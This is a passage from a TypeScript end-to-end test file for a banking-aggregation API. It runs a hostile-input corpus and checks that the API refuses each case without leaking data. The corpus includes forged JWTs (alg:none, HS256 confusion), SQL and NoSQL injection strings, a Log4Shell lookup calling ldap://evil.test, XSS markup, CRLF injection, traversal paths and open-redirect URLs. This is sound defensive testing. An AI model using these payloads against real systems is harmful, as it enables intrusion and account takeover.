// The hostile-input corpus: a table of requests an attacker (or a broken client) sends, over real HTTP to
// the whole local back end (`startAll`: the API Gateway-like server with its JWT authorizer, the handlers,
// dynalite, the sandbox, the workflow). Two users each own a synced member, so the other user's guids,
// cursors and OAuth states are real attempts. Each case answers its documented status; across the corpus:
// no 5xx, no stack trace or internal name in a body, none of the other user's data in a body.
// The handler-level list (test/api-bad-input.test.ts) also proves refusals fetch no secret; it is not
// repeated here.
import { request } from "node:http";
import Ajv2020 from "ajv/dist/2020";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { decideAtBank } from "../local/client";
import type { RunningAll } from "../local/start";
import { MAX_BODY_BYTES } from "../shared/api/limits";
import { buildOpenApiDocument } from "../shared/api/openapi";
import { apiRoutes, type RouteId } from "../shared/api/routes";
import {
  APP_URL,
  type ApiClient,
  clientFor,
  createCredentialMember,
  startE2e,
  waitForSync,
} from "./fixtures/e2e";
import { INJECTIONS } from "./fixtures/hostile-input";

/** What one user owns after setup: everything the other user must never see. */
interface Holdings {
  userId: string;
  member: string;
  account: string;
  transactions: string[];
  /** A next_cursor of GET /v1/accounts/{account}/transactions?limit=1. */
  transactionsCursor: string;
  /** A next_cursor of GET /v1/transactions/sync. */
  feedCursor: string;
}

interface World {
  app: RunningAll;
  alice: ApiClient;
  bob: ApiClient;
  a: Holdings;
  b: Holdings;
  /** Bob's OAuth states, genuine and unused (one per case that needs one). */
  bobStates: string[];
  /** A genuine state of Bob's already used once. */
  usedState: string;
  /** Authorization headers by kind. */
  tokens: Record<TokenKind, string | undefined>;
  webhookAuth: string;
  /** The sync runs started before the corpus (Step Functions' own list). */
  runsBefore: string[];
}

/** The names of every sync run the workflow has started. */
function syncRuns(app: RunningAll): string[] {
  const { stepFunctions, stateMachineArn } = app.stack.workflow;
  return stepFunctions
    .listExecutions({ stateMachineArn, maxResults: 1000 })
    .executions.map((e) => e.name)
    .sort();
}

let w: World;

async function holdings(api: ApiClient): Promise<Holdings> {
  const member = await createCredentialMember(api, "password");
  const synced = await waitForSync(api, member.guid);
  expect(synced.sync.status).toBe("SYNCED");
  const account = (await api.get("/v1/accounts")).body.accounts[0].guid as string;
  const page = await api.get(`/v1/accounts/${account}/transactions?limit=1`);
  const all = await api.get(`/v1/accounts/${account}/transactions?limit=500`);
  const feed = await api.get("/v1/transactions/sync?count=1");
  expect(page.body.next_cursor, "a second page").toBeTruthy();
  return {
    userId: api.userId,
    member: member.guid,
    account,
    transactions: all.body.transactions.map((t: { guid: string }) => t.guid),
    transactionsCursor: page.body.next_cursor,
    feedCursor: feed.body.next_cursor,
  };
}

/** Creates an OAuth member and clicks Authorize at the bank: MX's redirect carries the callback's state. */
async function oauthState(api: ApiClient): Promise<string> {
  const created = await api.post("/v1/members", {
    institution_code: "mx_bank_oauth",
    is_oauth: true,
    redirect_url: APP_URL,
  });
  expect(created.status, created.text).toBe(202);
  const { redirect } = await decideAtBank(created.body.member.oauth_window_uri, "authorize");
  return decodeURIComponent(redirect.pathname.split("/").at(-1) ?? "");
}

const b64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString("base64url");

type TokenKind =
  | "none"
  | "expired"
  | "wrongAudience"
  | "wrongIssuer"
  | "algNone"
  | "hs256"
  | "badSignature"
  | "garbage"
  | "basicScheme"
  | "markupSub"
  | "unicodeSub";

beforeAll(async () => {
  const app = await startE2e();
  const alice = await clientFor(app);
  const bob = await clientFor(app);
  const [a, b] = [await holdings(alice), await holdings(bob)];
  const bobStates = [];
  for (let i = 0; i < 5; i++) bobStates.push(await oauthState(bob));
  const usedState = await oauthState(bob);
  const first = await fetch(
    `${app.apiUrl}/v1/oauth/callback/${usedState}?status=error&error_reason=CANCELLED`,
    { redirect: "manual" },
  );
  expect(first.status).toBe(302);

  const real = alice.token;
  const [header = "", payload = "", signature = ""] = real.split(".");
  const { kid } = JSON.parse(Buffer.from(header, "base64url").toString()) as { kid: string };
  const claims = JSON.parse(Buffer.from(payload, "base64url").toString()) as Record<string, unknown>;
  const flipped = `${signature.slice(0, -2)}${signature.at(-2) === "A" ? "B" : "A"}${signature.at(-1)}`;
  const webhookSecret = JSON.parse(app.stack.aws.readSecret(app.stack.env.WEBHOOK_SECRET_ID ?? "") ?? "{}");
  w = {
    app,
    alice,
    bob,
    a,
    b,
    bobStates,
    usedState,
    runsBefore: syncRuns(app),
    webhookAuth: `Basic ${Buffer.from(`${webhookSecret.username}:${webhookSecret.password}`).toString("base64")}`,
    tokens: {
      none: undefined,
      expired: `Bearer ${await app.issueToken(a.userId, { ttlSeconds: -60 })}`,
      wrongAudience: `Bearer ${await app.issueToken(a.userId, { audience: "another-app" })}`,
      wrongIssuer: `Bearer ${await app.issueToken(a.userId, { issuer: "https://evil.test/" })}`,
      // Alice's claims, unsigned: the authorizer must not take "alg": "none".
      algNone: `Bearer ${b64({ alg: "none", typ: "JWT", kid })}.${b64(claims)}.`,
      // Alice's claims "signed" with HS256 keyed by the key id: the algorithm-confusion attack.
      hs256: `Bearer ${b64({ alg: "HS256", typ: "JWT", kid })}.${b64(claims)}.${Buffer.from(kid).toString("base64url")}`,
      badSignature: `Bearer ${header}.${payload}.${flipped}`,
      garbage: "Bearer not.a.jwt",
      basicScheme: `Basic ${Buffer.from(`${a.userId}:password`).toString("base64")}`,
      // Genuine tokens whose `sub` is no user id the API accepts: the handler's own 401.
      markupSub: `Bearer ${await app.issueToken("<script>alert(1)</script>")}`,
      unicodeSub: `Bearer ${await app.issueToken("ユーザー\u202e")}`,
    },
  };
}, 120_000);

afterAll(async () => {
  await w?.app.close();
});

// ---- the corpus -----------------------------------------------------------------------------------------

/** Who calls: a user (their token) or a kind of bad credential. */
type Caller = "alice" | "bob" | TokenKind;

interface Request {
  as?: Caller;
  /** Path parameters, percent-encoded into the route's path. */
  params?: Record<string, string>;
  /** Sent byte for byte instead of the route's path (traversal, double encoding). */
  rawPath?: string;
  /** Raw query string, without "?". */
  query?: string;
  /** Sent as JSON unless a string. */
  body?: unknown;
  headers?: Record<string, string>;
  /** Override the route's method (a method the route does not have). */
  method?: string;
}

interface Expect {
  status: number;
  /** The API's `error.code`. */
  code?: string;
  /** API Gateway's own `{"message": …}` instead of the API's envelope. */
  gateway?: true;
  /** The callback's HTML page (or redirect). */
  page?: true;
  /** A 200 of the changes feed with no change in it. */
  emptyFeed?: true;
  /** Whose data may appear: default the caller (nobody for a refused token). */
  owner?: "alice" | "bob" | "nobody";
}

type Case = [title: string, route: RouteId, request: (w: World) => Request, expected: Expect];

const cases: Case[] = [];
const add = (title: string, route: RouteId, req: (w: World) => Request, expected: Expect) =>
  cases.push([title, route, req, expected]);
const bad = (code = "invalid_request"): Expect => ({ status: 400, code });
/** The OAuth callback's HTML answer (or its redirect to the app). */
const page = (status: number, owner: Expect["owner"] = "nobody"): Expect => ({ status, page: true, owner });

/** Defaults that reach each route's handler as Alice: her own guids, a known institution. */
const defaults = (route: RouteId, world: World): Record<string, string> => ({
  ...(route === "ListCredentials" ? { institution_code: "mxbank" } : {}),
  ...(/member_guid/.test(routePath(route)) ? { member_guid: world.a.member } : {}),
  ...(/account_guid/.test(routePath(route)) ? { account_guid: world.a.account } : {}),
  ...(route === "OauthCallback" ? { state: `${"A".repeat(40)}.${"B".repeat(43)}` } : {}),
});
const routePath = (route: RouteId) => apiRoutes.find((r) => r.id === route)?.path ?? "";

// Hostile strings for every string field and parameter.
const UNICODE: [string, string][] = [
  ["emoji", "🏦💸"],
  ["right-to-left override", "\u202Eknab"],
  ["Arabic (RTL)", "بنك"],
  ["combining marks", "Z̵͉a̸l̷g̶o"],
  ["NUL", "a\u0000b"],
  ["control characters", "a\u0007\u001b[31mb"],
  ["CRLF header injection", "a\r\nSet-Cookie: x=1"],
  ["a lone surrogate", "a\ud800b"],
  ["zero-width joiners", "m\u200dx\u200bbank"],
];
const INJECTION_STRINGS: [string, string][] = [
  ["SQL", "' OR '1'='1' --"],
  ["SQL union", "x' UNION SELECT * FROM users --"],
  ["NoSQL operator", '{"$gt":""}'],
  ["NoSQL where", "'; return true; var x='"],
  ["JS prototype", "__proto__"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literally
  ["template literal", "${process.env}"],
  ["markup", '"><img src=x onerror=alert(1)>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally
  ["Log4Shell", "${jndi:ldap://evil.test/a}"],
  ["DynamoDB key", "USER#someone-else"],
];
const HOSTILE = [...UNICODE, ...INJECTION_STRINGS];

// 1. Who is calling: every bad credential on every route that needs a token (API Gateway's 401).
const GATEWAY_REFUSED: TokenKind[] = [
  "none",
  "expired",
  "wrongAudience",
  "wrongIssuer",
  "algNone",
  "hs256",
  "badSignature",
  "garbage",
  "basicScheme",
];
for (const route of apiRoutes.filter((r) => !r.public)) {
  for (const kind of GATEWAY_REFUSED) {
    add(`${kind} token`, route.id as RouteId, () => ({ as: kind }), {
      status: 401,
      gateway: true,
      owner: "nobody",
    });
  }
}
// A genuine token whose `sub` the API does not accept as a user id: the handler refuses it exactly as
// the authorizer would (one 401 for apps, as the OpenAPI document says).
for (const route of ["ListMembers", "GetMember", "ListAccounts", "TransactionsSync"] as const) {
  for (const kind of ["markupSub", "unicodeSub"] as const) {
    add(`${kind}`, route, () => ({ as: kind }), { status: 401, gateway: true, owner: "nobody" });
  }
}

// 2. The other user's guids, cursors and filters: answered exactly as unknown ones, never their data.
const theirs = (route: RouteId, req: (w: World) => Request, expected: Expect = { status: 404 }) =>
  add("Bob's guid", route, req, { code: "not_found", ...expected });
for (const route of [
  "GetMember",
  "GetChallenges",
  "ListOwners",
  "ListSyncs",
  "SyncMember",
  "DeleteMember",
] as const) {
  theirs(route, (x) => ({ params: { member_guid: x.b.member } }));
}
theirs("AnswerChallenges", (x) => ({
  params: { member_guid: x.b.member },
  body: { challenges: [{ guid: "CRD-1", value: "correct" }] },
}));
theirs("ReconnectMember", (x) => ({
  params: { member_guid: x.b.member },
  body: { credentials: [{ guid: "CRD-1", value: "new" }] },
}));
// No body at all: reconnect's body is optional (an OAuth member's new window), so this reaches the lookup.
theirs("ReconnectMember", (x) => ({ params: { member_guid: x.b.member } }));
theirs("ListTransactions", (x) => ({ params: { account_guid: x.b.account } }));
theirs("ListTransactions", (x) => ({
  params: { account_guid: x.b.account },
  query: `cursor=${x.b.transactionsCursor}`,
}));
add(
  "Bob's transactions cursor on Alice's account",
  "ListTransactions",
  (x) => ({
    query: `cursor=${x.b.transactionsCursor}`,
  }),
  bad(),
);
add("Bob's feed cursor", "TransactionsSync", (x) => ({ query: `cursor=${x.b.feedCursor}` }), {
  status: 403,
  code: "cursor_forbidden",
});
// The feed filters by guid within the caller's own change log: another user's guid finds nothing.
add(
  "Bob's member as the feed's filter",
  "TransactionsSync",
  (x) => ({ query: `member_guid=${x.b.member}` }),
  {
    status: 200,
    emptyFeed: true,
  },
);
add(
  "Bob's account as the feed's filter",
  "TransactionsSync",
  (x) => ({ query: `account_guid=${x.b.account}` }),
  {
    status: 200,
    emptyFeed: true,
  },
);
add(
  "Alice's cursor issued without a filter, sent with one",
  "TransactionsSync",
  (x) => ({
    query: `cursor=${x.a.feedCursor}&member_guid=${x.a.member}`,
  }),
  bad("invalid_cursor"),
);
add("Bob's user id as a query parameter", "ListMembers", (x) => ({ query: `user_id=${x.b.userId}` }), {
  status: 200,
});
add("Bob's user id as a query parameter", "ListAccounts", (x) => ({ query: `user=${x.b.userId}` }), {
  status: 200,
});
add(
  "Bob's user id in spoofed identity headers",
  "ListMembers",
  (x) => ({
    headers: { "x-user-id": x.b.userId, "x-amzn-oidc-identity": x.b.userId, "x-forwarded-user": x.b.userId },
  }),
  { status: 200 },
);
add(
  "Bob's transaction guid as an account guid",
  "ListTransactions",
  (x) => ({
    params: { account_guid: x.b.transactions[0] ?? "" },
  }),
  bad(),
);
add(
  "Bob's transaction guid as a member guid",
  "GetMember",
  (x) => ({
    params: { member_guid: x.b.transactions[0] ?? "" },
  }),
  bad(),
);

// 3. Path parameters: traversal, over-long, wrong prefix, hostile strings.
const GUID_ROUTES = ["GetMember", "GetChallenges", "ListOwners", "ListSyncs", "DeleteMember"] as const;
const PATH_VALUES: [string, string][] = [
  ["traversal", "../../v1/accounts"],
  ["encoded traversal", "MBR-1%2F..%2F..%2Faccounts"],
  ["backslash traversal", "MBR-..\\..\\accounts"],
  ["65-character token", `MBR-${"a".repeat(65)}`],
  ["5,000 characters", `MBR-${"a".repeat(5000)}`],
  ["wrong prefix", "ACT-06d7f44b-caae-0f6e-1384-01f52e75dcb1"],
  ["a space", "MBR-1 2"],
  ...HOSTILE.map(([name, value]): [string, string] => [name, `MBR-${value}`]),
];
PATH_VALUES.forEach(([name, value], i) => {
  // Each value on one route in turn (all of them on GetMember): every route sees several.
  const route = i % 2 === 0 ? "GetMember" : (GUID_ROUTES[(i >> 1) % GUID_ROUTES.length] ?? "GetMember");
  add(`member_guid: ${name}`, route, () => ({ params: { member_guid: value } }), bad());
});
for (const [name, value] of [...UNICODE, ["traversal", "../x"], ["70 characters", "a".repeat(70)]] as [
  string,
  string,
][]) {
  add(`institution_code: ${name}`, "ListCredentials", () => ({ params: { institution_code: value } }), bad());
  add(
    `account_guid: ${name}`,
    "ListTransactions",
    () => ({ params: { account_guid: `ACT-${value}` } }),
    bad(),
  );
}
for (const [name, path] of [
  ["double-encoded traversal", "/v1/members/%252e%252e%252f%252e%252e%252faccounts"],
  ["an encoded NUL", "/v1/members/MBR-1%00"],
  ["an overlong UTF-8 slash", "/v1/members/MBR-1%C0%AFowners"],
]) {
  add(`path: ${name}`, "GetMember", () => ({ rawPath: path }), bad());
}
// The shared injection list on the member routes the handler-level test (api-bad-input) does not cover.
for (const guid of INJECTIONS) {
  add(
    `member_guid ${JSON.stringify(guid.slice(0, 30))}`,
    "ListSyncs",
    () => ({ params: { member_guid: guid } }),
    bad(),
  );
  add(
    `member_guid ${JSON.stringify(guid.slice(0, 30))}`,
    "ReconnectMember",
    () => ({
      params: { member_guid: guid },
      body: {},
    }),
    bad(),
  );
  add(
    `member_guid ${JSON.stringify(guid.slice(0, 30))}`,
    "AnswerChallenges",
    () => ({
      params: { member_guid: guid },
      body: { challenges: [{ guid: "CRD-1", value: "x" }] },
    }),
    bad(),
  );
}
// No route matches: API Gateway's own 404, whatever route the path resembles.
for (const [name, path] of [
  ["raw dot segments", "/v1/members/MBR-1/../../accounts"],
  ["a doubled slash", "/v1//members"],
  ["a trailing slash", "/v1/members/"],
]) {
  add(`path: ${name}`, "GetMember", () => ({ rawPath: path }), { status: 404, gateway: true });
}
add("a method the route does not have", "ListMembers", () => ({ method: "PUT" }), {
  status: 404,
  gateway: true,
});
add("a method the route does not have", "GetMember", () => ({ method: "PATCH" }), {
  status: 404,
  gateway: true,
});

// 4. Query strings: wrong types, out of range, repeated, hostile strings, unknown names.
for (const [name, value] of HOSTILE) {
  // Letters of any script are a name (the sandbox knows none of these); the rest is refused.
  const expected = name === "Arabic (RTL)" ? { status: 200 } : bad();
  add(`search name: ${name}`, "SearchInstitutions", () => ({ query: `name=${enc(value)}` }), expected);
}
for (const [route, query] of [
  ["SearchInstitutions", "page=-1"],
  ["SearchInstitutions", "page=1.5"],
  ["SearchInstitutions", "records_per_page=1&records_per_page=2"],
  ["SearchInstitutions", "page=Infinity"],
  ["SearchInstitutions", `name=${"a".repeat(101)}`],
  ["ListTransactions", "limit=NaN"],
  ["ListTransactions", "limit=1e9"],
  ["ListTransactions", "from=2024-13-01"],
  ["ListTransactions", "to=31-12-2024"],
  ["ListTransactions", "from=2024-01-01T00:00:00Z"],
  ["ListTransactions", `cursor=${"A".repeat(2049)}`],
  ["ListTransactions", "cursor=%00"],
  ["ListTransactions", `cursor=${b64({ PK: "USER#x", SK: "TXN#y" })}`],
  ["ListTransactions", "__proto__=1"],
  ["ListSyncs", "limit=0"],
  ["ListSyncs", "limit=101"],
  ["ListSyncs", "limit=%F0%9F%8F%A6"],
  ["ListSyncs", "cursor=..%2F..%2F"],
  ["ListSyncs", "order=asc"],
  ["TransactionsSync", "count=0"],
  ["TransactionsSync", "count=abc"],
  ["TransactionsSync", "member_guid=MBR-%27%20OR%201%3D1"],
  ["TransactionsSync", "account_guid=ACT-..%2F"],
  ["TransactionsSync", "since=0"],
] as const) {
  add(`query ${query.slice(0, 50)}`, route, () => ({ query }), bad());
}
for (const [name, cursor] of [
  ["not a cursor", "hello"],
  ["three parts", "a.b.c"],
  ["4,097 characters", "A".repeat(4097)],
  ["unsigned JSON", `${b64({ v: 1, u: "someone", s: 0, t: Date.now() })}.${"A".repeat(43)}`],
  ["a unicode cursor", "🏦.🏦"],
] as [string, string][]) {
  add(`feed cursor: ${name}`, "TransactionsSync", () => ({ query: `cursor=${encodeURIComponent(cursor)}` }), {
    status: 400,
  });
}
add(
  "feed cursor: Alice's, one payload byte changed",
  "TransactionsSync",
  (x) => ({
    query: `cursor=${tamper(x.a.feedCursor, 5)}`,
  }),
  bad("invalid_cursor"),
);
add(
  "feed cursor: Alice's, one signature byte changed",
  "TransactionsSync",
  (x) => ({
    query: `cursor=${tamper(x.a.feedCursor, x.a.feedCursor.length - 3)}`,
  }),
  bad("invalid_cursor"),
);
add(
  "feed cursor: Bob's payload with Alice's signature",
  "TransactionsSync",
  (x) => ({
    query: `cursor=${x.b.feedCursor.split(".")[0]}.${x.a.feedCursor.split(".")[1]}`,
  }),
  bad("invalid_cursor"),
);
add(
  "transactions cursor: Alice's, its first byte changed",
  "ListTransactions",
  (x) => ({
    query: `cursor=${tamper(x.a.transactionsCursor, 0)}`,
  }),
  bad(),
);

// 4b. Unicode, control characters and NUL in every other string field and parameter, slot by slot.
const SLOTS: [
  slot: string,
  route: RouteId,
  request: (x: World, value: string) => Request,
  expected: Expect,
][] = [
  // Well-formed, so it goes to MX: an unknown institution (422) before any credential is looked at.
  [
    "credential value",
    "CreateMember",
    (_x, v) => ({ body: { institution_code: "no_such_bank", credentials: [{ guid: "CRD-1", value: v }] } }),
    { status: 422, code: "unknown_institution" },
  ],
  // Well-formed, on the other user's member: the lookup answers, nothing reaches MX.
  [
    "reconnect credential value",
    "ReconnectMember",
    (x, v) => ({ params: { member_guid: x.b.member }, body: { credentials: [{ guid: "CRD-1", value: v }] } }),
    { status: 404, code: "not_found" },
  ],
  [
    "reconnect credential guid",
    "ReconnectMember",
    (_x, v) => ({ body: { credentials: [{ guid: `CRD-${v}`, value: "x" }] } }),
    bad(),
  ],
  [
    "answer guid",
    "AnswerChallenges",
    (_x, v) => ({ body: { challenges: [{ guid: `CRD-${v}`, value: "x" }] } }),
    bad(),
  ],
  ["from", "ListTransactions", (_x, v) => ({ query: `from=2024-01-0${enc(v)}` }), bad()],
  ["to", "ListTransactions", (_x, v) => ({ query: `to=${enc(v)}` }), bad()],
  ["cursor", "ListTransactions", (_x, v) => ({ query: `cursor=${enc(v)}` }), bad()],
  ["cursor", "ListSyncs", (_x, v) => ({ query: `cursor=${enc(v)}` }), bad()],
  ["cursor", "TransactionsSync", (_x, v) => ({ query: `cursor=${enc(v)}` }), bad("invalid_cursor")],
  ["member_guid filter", "TransactionsSync", (_x, v) => ({ query: `member_guid=MBR-${enc(v)}` }), bad()],
  ["page", "SearchInstitutions", (_x, v) => ({ query: `page=1${enc(v)}` }), bad()],
  ["error_reason", "OauthCallback", (_x, v) => ({ query: `status=error&error_reason=${enc(v)}` }), page(400)],
  ["member_guid", "OauthCallback", (_x, v) => ({ query: `member_guid=MBR-${enc(v)}` }), page(400)],
  // MX's webhook with its credentials: a guid that is not one is ignored (204), nothing enqueued.
  [
    "webhook member_guid",
    "MxWebhook",
    (x, v) => ({
      as: "none",
      headers: { authorization: x.webhookAuth },
      body: { type: "AGGREGATION", action: "member_data_updated", member_guid: `MBR-${v}` },
    }),
    { status: 204, owner: "nobody" },
  ],
];
for (const [slot, route, request, expected] of SLOTS) {
  for (const [name, value] of UNICODE) {
    add(`${slot}: ${name}`, route, (x) => request(x, value), expected);
  }
}

// 5. Bodies: malformed JSON, wrong types, missing and extra fields, hostile strings, huge bodies.
const CREDENTIALS = [
  { guid: "CRD-27d0edb8-1d50-5b90-bcbc-be270ca42b9f", value: "mxuser" },
  { guid: "CRD-a8a1a6f0-0a5d-4f6c-9b1e-1f1f1f1f1f1f", value: "password" },
];
const BODY_ROUTES = ["CreateMember", "AnswerChallenges", "ReconnectMember"] as const;
const MALFORMED: [string, string][] = [
  ["a trailing comma", '{"institution_code":"mxbank",}'],
  ["single quotes", "{'institution_code':'mxbank'}"],
  ["NaN", '{"institution_code":NaN}'],
  ["a comment", '{/* x */"institution_code":"mxbank"}'],
  ["a byte-order mark", '\ufeff{"institution_code":"mxbank"}'],
  ["only whitespace", "  \n "],
  ["truncated", '{"challenges":[{"guid":"CRD-1","value":"x"'],
  ["two documents", '{"a":1}{"b":2}'],
];
for (const route of BODY_ROUTES) {
  for (const [name, raw] of MALFORMED) {
    add(
      `malformed JSON: ${name}`,
      route,
      () => ({ body: raw, headers: { "content-type": "application/json" } }),
      bad("invalid_json"),
    );
  }
  for (const [name, type] of [
    ["multipart", "multipart/form-data; boundary=x"],
    ["JSONP", "application/jsonp"],
    ["XML", "application/xml"],
  ] as [string, string][]) {
    add(`content type ${name}`, route, () => ({ body: "{}", headers: { "content-type": type } }), {
      status: 415,
      code: "unsupported_media_type",
    });
  }
  add(`over ${MAX_BODY_BYTES} bytes`, route, () => ({ body: { pad: "x".repeat(MAX_BODY_BYTES) } }), {
    status: 413,
    code: "payload_too_large",
  });
  add(
    "over the limit in bytes, under it in characters (€)",
    route,
    () => ({
      body: { pad: "€".repeat(Math.ceil(MAX_BODY_BYTES / 3) + 10) },
    }),
    { status: 413, code: "payload_too_large" },
  );
  add("a body nested 5,000 deep", route, () => ({ body: `${"[".repeat(5000)}${"]".repeat(5000)}` }), bad());
  add("JSON true", route, () => ({ body: "true" }), bad());
  add("a __proto__ key", route, () => ({ body: '{"__proto__":{"admin":true}}' }), bad());
  add("a constructor key", route, () => ({ body: { constructor: { prototype: { admin: true } } } }), bad());
}
// Wrong types, field by field.
for (const [field, value] of [
  ["institution_code", null],
  ["institution_code", ["mxbank"]],
  ["institution_code", { $ne: null }],
  ["institution_code", true],
  ["credentials", {}],
  ["credentials", ["mxuser", "password"]],
  ["credentials", [{ guid: 1, value: "x" }]],
  ["credentials", [{ guid: "CRD-1", value: 1 }]],
  ["credentials", [{ guid: "CRD-1", value: null }]],
  ["credentials", [{ guid: "CRD-1", value: "x".repeat(1025) }]],
  ["credentials", Array.from({ length: 21 }, (_, i) => ({ guid: `CRD-${i}`, value: "x" }))],
  ["credentials", [{ guid: "CRD-1", value: "x", admin: true }]],
  ["credentials", [{ guid: "../CRD-1", value: "x" }]],
  ["identify", "true"],
  ["identify", null],
  ["redirect_url", 5],
] as const) {
  add(
    `${field}: ${JSON.stringify(value).slice(0, 40)}`,
    "CreateMember",
    () => ({
      body: { institution_code: "mxbank", credentials: CREDENTIALS, [field]: value },
    }),
    bad(),
  );
}
add("missing institution_code", "CreateMember", () => ({ body: { credentials: CREDENTIALS } }), bad());
add("empty object", "CreateMember", () => ({ body: {} }), bad());
for (const [name, value] of HOSTILE) {
  // "__proto__" is a well-formed code: MX has no such institution (422), nothing else happens.
  const expected = value === "__proto__" ? { status: 422, code: "unknown_institution" } : bad();
  add(
    `institution_code: ${name}`,
    "CreateMember",
    () => ({
      body: { institution_code: value, credentials: CREDENTIALS },
    }),
    expected,
  );
  add(
    `credential guid: ${name}`,
    "CreateMember",
    () => ({
      body: { institution_code: "mxbank", credentials: [{ guid: `CRD-${value}`, value: "x" }] },
    }),
    bad(),
  );
}
// Open redirects at create: only an allow-listed http(s) URL is kept.
for (const url of [
  "//evil.test/connected",
  "https://evil.test/connected?https://app.example.test/connected",
  "https://app.example.test@evil.test/connected",
  "http://localhost:5173.evil.test/connected",
  "http://localhost:5173/connected/../../evil",
  "data:text/html,<script>alert(1)</script>",
  "http://localhost:5173\\@evil.test/",
  "https://evil.test/%0d%0aLocation:%20https://evil.test",
]) {
  add(
    `redirect_url ${url.slice(0, 50)}`,
    "CreateMember",
    () => ({
      body: { institution_code: "mx_bank_oauth", is_oauth: true, redirect_url: url },
    }),
    bad(),
  );
}
// Answers: well-formed values (unicode, injection strings) reach the use case, which finds no question.
for (const [name, value] of HOSTILE) {
  add(
    `answer value: ${name}`,
    "AnswerChallenges",
    () => ({
      body: { challenges: [{ guid: "CRD-1", value }] },
    }),
    { status: 409, code: "no_challenge" },
  );
}
for (const [field, body] of [
  ["challenges: an object", { challenges: { guid: "CRD-1", value: "x" } }],
  ["challenges: null", { challenges: null }],
  [
    "challenges: 21 answers",
    { challenges: Array.from({ length: 21 }, () => ({ guid: "CRD-1", value: "x" })) },
  ],
  ["an extra field", { challenges: [{ guid: "CRD-1", value: "x" }], member_guid: "MBR-1" }],
  ["an empty value", { challenges: [{ guid: "CRD-1", value: "" }] }],
] as const) {
  add(field, "AnswerChallenges", () => ({ body }), bad());
}
for (const [field, body] of [
  ["credentials: empty", { credentials: [] }],
  ["credentials: a string", { credentials: "password" }],
  ["an extra field", { credentials: [{ guid: "CRD-1", value: "x" }], institution_code: "evil" }],
  ["is_oauth", { is_oauth: true }],
] as const) {
  add(field, "ReconnectMember", () => ({ body }), bad());
}
add(
  "Application/JSON; Charset=UTF-8 is JSON",
  "AnswerChallenges",
  () => ({
    body: JSON.stringify({ challenges: [{ guid: "CRD-1", value: "x" }] }),
    headers: { "content-type": "Application/JSON; Charset=UTF-8" },
  }),
  { status: 409, code: "no_challenge" },
);

// 6. The OAuth callback (public): forged, tampered, replayed states; open-redirect attempts.
for (const [name, state] of [
  ["random", `${"A".repeat(40)}.${"B".repeat(43)}`],
  ["markup", "<script>alert(1)</script>"],
  ["a traversal", "../../v1/members"],
  ["1,100 characters", `${"a".repeat(1100)}.${"b".repeat(43)}`],
  ["a JWT", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0."],
  ["unicode", "🏦🏦🏦🏦🏦🏦🏦🏦🏦.🏦"],
  ["Alice's feed cursor", ""],
]) {
  add(`state: ${name}`, "OauthCallback", (x) => ({ params: { state: state || x.a.feedCursor } }), page(400));
}
add(
  "state: a genuine one with a byte of its payload changed",
  "OauthCallback",
  (x) => ({
    params: { state: tamper(x.bobStates[0] ?? "", 4) },
  }),
  page(400),
);
add(
  "state: a genuine one with a byte of its signature changed",
  "OauthCallback",
  (x) => ({
    params: { state: tamper(x.bobStates[0] ?? "", (x.bobStates[0] ?? "").length - 2) },
  }),
  page(400),
);
add(
  "state: a genuine payload with another state's signature",
  "OauthCallback",
  (x) => ({
    params: { state: `${x.bobStates[0]?.split(".")[0]}.${x.usedState.split(".")[1]}` },
  }),
  page(400),
);
add(
  "state: a genuine one with Alice's member_guid",
  "OauthCallback",
  (x) => ({
    params: { state: x.bobStates[0] ?? "" },
    query: `status=success&member_guid=${x.a.member}`,
  }),
  page(400),
);
add(
  "state: a genuine one with markup in error_reason",
  "OauthCallback",
  (x) => ({
    params: { state: x.bobStates[0] ?? "" },
    query: "status=error&error_reason=%3Cscript%3E",
  }),
  page(400),
);
add(
  "state: a genuine one with an unknown status",
  "OauthCallback",
  (x) => ({
    params: { state: x.bobStates[0] ?? "" },
    query: "status=hacked",
  }),
  page(400),
);
add(
  "state: replayed",
  "OauthCallback",
  (x) => ({
    params: { state: x.usedState },
    query: "status=error&error_reason=CANCELLED",
  }),
  page(409, "bob"),
);
for (const [i, query] of [
  "redirect_url=https%3A%2F%2Fevil.test%2F",
  "next=%2F%2Fevil.test&return_to=javascript%3Aalert(1)",
  "redirect_uri=https%3A%2F%2Fevil.test&url=https%3A%2F%2Fevil.test",
  "status=error&error_reason=CANCELLED&location=https%3A%2F%2Fevil.test",
].entries()) {
  // A genuine state (used once here): MX's query extras never choose where the browser goes.
  add(
    `open redirect: ${query.slice(0, 40)}`,
    "OauthCallback",
    (x) => ({
      params: { state: x.bobStates[i + 1] ?? "" },
      query: query.startsWith("status=") ? query : `status=error&error_reason=CANCELLED&${query}`,
    }),
    page(302, "bob"),
  );
}

// 7. MX's webhooks (public, basic auth): forged, malformed, huge.
const hook = (body: unknown) => ({ type: "AGGREGATION", action: "member_data_updated", ...(body as object) });
for (const [name, auth] of [
  ["no credentials", undefined],
  ["a wrong password", "Basic bXgtd2ViaG9va3M6d3Jvbmc="],
  ["Alice's bearer token", "alice"],
  ["an empty Basic", "Basic "],
  ["not base64", "Basic !!!!"],
  ["a non-ASCII byte", "Basic \u00e9\u00e9"],
  ["a password with a NUL", `Basic ${Buffer.from("mx-webhooks:\u0000").toString("base64")}`],
] as const) {
  add(
    `webhook: ${name}`,
    "MxWebhook",
    (x) => ({
      as: "none",
      headers: {
        ...(auth === undefined ? {} : { authorization: auth === "alice" ? `Bearer ${x.alice.token}` : auth }),
      },
      body: hook({ member_guid: x.a.member }),
    }),
    { status: 401, code: "unauthorized", owner: "nobody" },
  );
}
for (const [name, body, expected] of [
  ["malformed JSON", '{"type":', 400],
  ["an array", "[]", 400],
  ["a string", '"AGGREGATION"', 400],
  ["an empty body", "", 400],
  ["a huge body", JSON.stringify(hook({ pad: "x".repeat(MAX_BODY_BYTES) })), 413],
  ["wrongly typed fields", JSON.stringify({ type: 5, member_guid: ["MBR-1"] }), 400],
  ["an injected member_guid", JSON.stringify(hook({ member_guid: "MBR-1' OR '1'='1" })), 204],
  ["a unicode type", JSON.stringify(hook({ type: "🏦\u202e" })), 204],
  ["nulls everywhere", JSON.stringify({ type: null, action: null, member_guid: null, user_id: null }), 204],
] as const) {
  add(
    `webhook: ${name}`,
    "MxWebhook",
    (x) => ({
      as: "none",
